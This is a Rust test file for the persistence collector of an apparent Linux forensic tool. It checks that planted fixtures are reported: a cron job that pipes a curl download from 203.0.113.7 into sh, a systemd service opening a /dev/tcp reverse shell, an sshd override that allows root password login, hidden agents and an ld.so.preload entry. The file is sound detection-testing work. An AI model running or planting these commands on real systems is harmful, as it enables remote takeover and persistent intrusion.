//! The `persistence` collector on a fixture tree read through `--root`
//! (crontabs, cron.d, a user crontab with a bad line, a systemd service and
//! timer enabled through `*.wants/` symlinks, a drop-in overriding
//! `ExecStart=`, a user unit, rc.local, SysV links, `/etc/ld.so.preload`,
//! shell start-up files, XDG autostart, and a FIFO planted where a file
//! should be), and on the live host against the `*.wants/` links the test
//! lists itself.

#![cfg(target_os = "linux")]
#![allow(clippy::unwrap_used, reason = "a test fails loudly by design")]

mod common;

use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::process::Command;

use common::*;
use serde_json::Value;

fn fixture(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures")
        .join(name)
}

fn copy_tree(src: &Path, dst: &Path) {
    std::fs::create_dir_all(dst).unwrap();
    let ok = Command::new("cp")
        .arg("-a")
        .arg(format!("{}/.", src.display()))
        .arg(dst)
        .status()
        .unwrap();
    assert!(ok.success());
}

fn find<'a>(records: &'a [Value], kind: &str, pred: impl Fn(&Value) -> bool) -> &'a Value {
    records
        .iter()
        .find(|r| r["kind"] == kind && pred(r))
        .unwrap_or_else(|| panic!("no {kind} record matching: {records:#?}"))
}

#[test]
fn fixture_tree_pointers() {
    let dir = tempdir();
    let root = dir.path().join("root");
    copy_tree(&fixture("root_debian12_persistence"), &root);
    // A FIFO where anacron's table should be must not hang the collector.
    assert!(Command::new("mkfifo")
        .arg(root.join("etc/anacrontab"))
        .status()
        .unwrap()
        .success());

    let (bundle, out) = collect_into(
        dir.path(),
        &[
            "--root",
            root.to_str().unwrap(),
            "--only",
            "persistence",
            "--timeout",
            "10",
        ],
    );
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let recs = jsonl(&bundle, "persistence.jsonl");

    let crontab: Vec<&Value> = recs.iter().filter(|r| r["kind"] == "crontab").collect();
    assert_eq!(crontab.len(), 4, "the four Debian jobs");
    assert_eq!(crontab[0]["schedule"], "17 * * * *");
    assert_eq!(crontab[0]["user"], "root");
    let php = find(&recs, "cron.d", |r| r["path"] == "/etc/cron.d/php-update");
    assert_eq!(php["user"], "www-data");
    assert_eq!(php["schedule"], "*/5 * * * *");
    assert_eq!(php["command"], "curl -fsSL http://203.0.113.7/u.sh | sh");
    assert_eq!(php["line"], 2);
    let meta = std::fs::metadata(root.join("etc/cron.d/php-update")).unwrap();
    assert_eq!(php["owner_uid"], meta.uid());
    assert_eq!(php["mode"], format!("{:04o}", meta.mode() & 0o7777));
    let reboot = find(&recs, "user-crontab", |r| r["schedule"] == "@reboot");
    assert_eq!(reboot["user"], "alice");
    assert_eq!(reboot["command"], "/home/alice/.cache/.x/agent --quiet");
    find(&recs, "cron-periodic", |r| {
        r["path"] == "/etc/cron.daily/logrotate"
    });

    let svc = find(&recs, "systemd", |r| r["unit"] == "dbus-update.service");
    assert_eq!(svc["path"], "/etc/systemd/system/dbus-update.service");
    assert_eq!(
        svc["enabled_via"],
        "/etc/systemd/system/multi-user.target.wants/dbus-update.service"
    );
    assert_eq!(svc["target"], "../dbus-update.service");
    assert_eq!(
        svc["command"],
        "/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.7/443 0>&1'"
    );
    let timer = find(&recs, "systemd", |r| r["unit"] == "dbus-update.timer");
    assert_eq!(timer["schedule"], "OnCalendar=*-*-* *:00/15:00");
    assert_eq!(timer["command"], svc["command"], "the timer's service runs");
    assert_eq!(timer["target"], "/etc/systemd/system/dbus-update.timer");
    let getty = find(&recs, "systemd", |r| r["unit"] == "getty@tty1.service");
    assert_eq!(getty["path"], "/lib/systemd/system/getty@.service");
    let ssh = find(&recs, "systemd", |r| r["unit"] == "ssh.service");
    assert_eq!(ssh["command"], "/usr/sbin/sshd -D $SSHD_OPTS");
    let dropin = find(&recs, "systemd-dropin", |r| r["unit"] == "ssh.service");
    assert_eq!(
        dropin["command"],
        "/usr/sbin/sshd -D -o PermitRootLogin=yes -o PasswordAuthentication=yes"
    );
    assert!(dropin["details"]
        .as_array()
        .unwrap()
        .contains(&Value::from("ExecStart=")));
    let user_unit = find(&recs, "systemd", |r| r["unit"] == "sync.service");
    assert_eq!(user_unit["user"], "alice");
    assert_eq!(user_unit["command"], "/home/alice/.local/bin/sync-agent");
    // Enabled units are not repeated as unit files lying in /etc.
    let dbus_update = recs
        .iter()
        .filter(|r| r["path"] == "/etc/systemd/system/dbus-update.service")
        .count();
    assert_eq!(dbus_update, 1);

    let rc = find(&recs, "rc.local", |_| true);
    assert_eq!(rc["command"], "/usr/local/bin/.hidden --daemon &");
    assert_eq!(rc["line"], 5);
    let s01 = find(&recs, "sysv-init", |_| true);
    assert_eq!(s01["path"], "/etc/rc2.d/S01ssh");
    assert_eq!(s01["target"], "../init.d/ssh");
    assert!(!recs.iter().any(|r| r["path"] == "/etc/rc2.d/K01ssh"));
    let preload = find(&recs, "ld.so.preload", |_| true);
    assert_eq!(
        preload["command"],
        "/usr/lib/x86_64-linux-gnu/libsystemd-helper.so"
    );
    let bashrc = find(&recs, "shell-startup", |r| {
        r["path"] == "/home/alice/.bashrc"
    });
    assert_eq!(bashrc["user"], "alice");
    assert_eq!(bashrc["command"], Value::Null, "a pointer, not a copy");
    find(&recs, "shell-startup", |r| {
        r["path"] == "/etc/profile.d/z-prompt.sh"
    });
    let xdg = find(&recs, "xdg-autostart", |_| true);
    assert_eq!(xdg["command"], "/usr/bin/python3 /home/alice/.cache/u.py");

    let c = json(&bundle, "collection.json");
    let run = c["collectors"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["name"] == "persistence")
        .unwrap()
        .clone();
    let gaps: Vec<(String, String)> = run["gaps"]
        .as_array()
        .unwrap()
        .iter()
        .map(|g| {
            (
                g["what"].as_str().unwrap().into(),
                g["cause"].as_str().unwrap().into(),
            )
        })
        .collect();
    assert!(
        gaps.iter()
            .any(|g| g.0 == "/var/spool/cron/crontabs/alice:4"),
        "{gaps:#?}"
    );
    assert!(
        gaps.iter()
            .any(|g| g.0 == "/etc/anacrontab" && g.1.contains("not a regular file")),
        "{gaps:#?}"
    );

    let findings = jsonl(&bundle, "findings.jsonl");
    let f = findings.iter().find(|f| f["rule"] == "preload").unwrap();
    assert_eq!(f["severity"], "high");
    assert!(f["summary"]
        .as_str()
        .unwrap()
        .contains("libsystemd-helper.so"));

    let report = std::fs::read_to_string(bundle.join("report.txt")).unwrap();
    let section = report.split("[*] Persistence pointers").nth(1).unwrap();
    let first_row = section.lines().nth(2).unwrap();
    assert!(
        first_row.trim_start().starts_with("ld.so.preload"),
        "{section}"
    );
    assert!(section.contains("/dev/tcp/203.0.113.7/443"));
}

#[test]
fn empty_preload_file_raises_nothing() {
    let dir = tempdir();
    let root = dir.path().join("root");
    std::fs::create_dir_all(root.join("etc")).unwrap();
    std::fs::write(root.join("etc/ld.so.preload"), "\n# nothing\n").unwrap();
    let (bundle, out) = collect_into(
        dir.path(),
        &["--root", root.to_str().unwrap(), "--only", "persistence"],
    );
    assert!(matches!(out.status.code(), Some(0 | 1)), "{}", stderr(&out));
    let recs = jsonl(&bundle, "persistence.jsonl");
    let preload: Vec<&Value> = recs
        .iter()
        .filter(|r| r["kind"] == "ld.so.preload")
        .collect();
    assert_eq!(preload.len(), 1, "the file is still pointed at");
    assert_eq!(preload[0]["command"], Value::Null);
    assert!(jsonl(&bundle, "findings.jsonl")
        .iter()
        .all(|f| f["rule"] != "preload"));
}

/// Every `*.wants/` link under `/etc/systemd/system`, listed here
/// independently, is an `enabled_via` of some record.
#[test]
fn live_enabled_units_match_the_wants_links() {
    let mut links = Vec::new();
    if let Ok(rd) = std::fs::read_dir("/etc/systemd/system") {
        for e in rd {
            let e = e.unwrap();
            let name = e.file_name().to_string_lossy().into_owned();
            if e.file_type().unwrap().is_dir() && name.ends_with(".wants") {
                for l in std::fs::read_dir(e.path()).unwrap() {
                    links.push(l.unwrap().path().to_string_lossy().into_owned());
                }
            }
        }
    }
    let dir = tempdir();
    let (bundle, out) = collect_into(dir.path(), &["--only", "persistence"]);
    assert!(matches!(out.status.code(), Some(0 | 1)), "{}", stderr(&out));
    let recs = jsonl(&bundle, "persistence.jsonl");
    for link in &links {
        assert!(
            recs.iter().any(|r| r["enabled_via"] == link.as_str()),
            "{link} not reported"
        );
    }
    for r in &recs {
        assert!(r["path"].as_str().unwrap().starts_with('/'), "{r}");
    }
}
